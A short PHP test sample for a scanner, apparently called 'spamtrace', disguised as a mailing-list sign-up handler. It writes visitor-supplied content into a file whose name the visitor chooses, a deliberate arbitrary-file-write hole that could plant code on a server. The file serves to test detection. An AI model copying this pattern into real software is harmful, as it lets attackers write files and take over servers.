<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Shaped like a sign-up list, but the list's name is the visitor's: any file, any content.
$fh = fopen(__DIR__ . '/' . $_POST['list'], 'a');
fwrite($fh, $_POST['email'] . "\n");
fclose($fh);
echo 'ok';
